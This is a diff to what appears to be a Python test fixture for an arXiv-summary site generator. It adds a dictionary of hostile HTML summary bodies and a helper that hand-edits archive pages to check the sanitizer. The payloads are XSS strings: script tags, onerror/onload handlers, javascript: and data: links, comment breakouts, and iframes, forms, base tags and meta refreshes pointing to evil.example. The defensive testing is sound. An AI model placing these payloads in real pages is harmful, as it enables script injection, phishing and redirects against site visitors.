@@ -13,6 +13,9 @@ What it holds:
   first recorded `<item>` (or `<entry>`) with its fields replaced. The feed also carries
   items whose ids are crafted for path traversal (`../../x`) and an unknown announce type.
 - `LLM_ANSWERS`: hostile model answers, one per summarized paper.
+- `HTML_BODIES`: hostile summary bodies written as HTML (a hand-edited page, or a v1 summary
+  `migrate` kept as HTML), each under its name; `hand_edit_html_bodies(docs)` puts them into
+  the summarized paper pages of an archive and a day note, as a hand edit would.
 - `build_hostile_archive(workdir)`: serves all of that on 127.0.0.1 (arXiv feed, API and
   PDFs, and an OpenAI-compatible LLM) and runs the real CLI, `python -m generator update`,
   in-process, into `workdir/docs`. Returns what was served and what the CLI said.
@@ -122,6 +125,63 @@ LLM_ANSWERS: list[str] = [
     "<style>body{display:none}</style><form action=\"https://evil.example/\"><input name=q></form><meta http-equiv=refresh content=0;url=https://evil.example/>",
     "Long answer. " * 20000,
 ]
+
+HTML_BODIES: dict[str, str] = {
+    "script": "<p>kept words</p><script>alert('xss-html-script')</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "img_svg": "<p>kept words <img src=x onerror=\"alert('xss-html-img')\"> <svg/onload=alert('xss-html-svg')></p>",
+    "javascript_links": (
+        "<p>kept words <a href=\"javascript:alert('xss-html-a')\">a</a> <a href=\"JaVaScRiPt:alert(1)\">b</a> "
+        "<a href=\"jav&#x09;ascript:alert(1)\">c</a> <a href=\"data:text/html,<script>alert(1)</script>\">d</a> "
+        "<a href=\"../../../etc/passwd\">rel</a> <a href=\"#top\">anchor</a></p>"
+    ),
+    "active_elements": (
+        "<div><p>kept words</p><iframe src=\"https://evil.example/\"></iframe><object data=\"https://evil.example/\"></object>"
+        "<form action=\"https://evil.example/\"><input name=q><button>go</button></form><meta http-equiv=refresh content=\"0;url=https://evil.example/\">"
+        "<base href=\"https://evil.example/\"><style>body{display:none}</style><link rel=stylesheet href=\"https://evil.example/x.css\"></div>"
+    ),
+    "attributes": (
+        "<p style=\"position:fixed;top:0\" class=\"admonition\" id=\"related\" onclick=\"alert('xss-html-click')\">kept words</p>"
+        "<span class=\"tex-math evil\" onmouseover=\"alert(1)\">$x$</span>"
+    ),
+    "math_payload": "<p>kept words $&lt;script&gt;alert('xss-html-math')&lt;/script&gt;$ and \\(&lt;img src=x onerror=alert(1)&gt;\\)</p>",
+    "breakout": (
+        "<p title=\"<!-- ai-summary:end -->\">kept words</p><!-- </details><script>alert('xss-html-comment')</script> -->"
+        "</details></article><script>alert('xss-html-breakout')</script><p>after</p>"
+    ),
+    "headings": "<h1>Top heading</h1><h2>kept words</h2><h6>deep</h6>",
+    "foreign": "<p>kept words <![CDATA[<script>alert(1)</script>]]></p><math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "details": "<details open ontoggle=alert('xss-html-toggle')><summary>kept words</summary>inside</details>",
+    "template": "<p>kept words</p><template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+}
+"""Hand-edited summary bodies in HTML (a v1 summary `migrate` keeps as HTML is one): each starts with a block
+element, so the site reads it as HTML (generator.sanitize.is_html_body), and each keeps the words `kept words`."""
+
+
+
+def hand_edit_html_bodies(docs: Path) -> dict[str, str]:
+    """Give the first summarized paper pages under docs/ the bodies of HTML_BODIES, one each, and every day
+    page a note in HTML (its breakout payload), as a person editing the archive by hand could; {arxiv_id: name}."""
+    edited: dict[str, str] = {}
+    names = iter(HTML_BODIES)
+    for path in sorted((docs / "papers").rglob("*.md")):
+        meta, _ = read_page(path)
+        if not meta.get("summary"):
+            continue
+        name = next(names, None)
+        if name is None:
+            break
+        _replace_body(path, HTML_BODIES[name])
+        edited[str(meta["arxiv_id"])] = name
+    for path in sorted((docs / "days").rglob("*.md")):
+        _replace_body(path, HTML_BODIES["breakout"])
+    return edited
+
+
+def _replace_body(path: Path, body: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    end = text.index("\n---\n", 3) + 5
+    path.write_text(text[:end] + "\n" + body + "\n", encoding="utf-8")
+
 
 FORBIDDEN_TAGS = frozenset(
     {
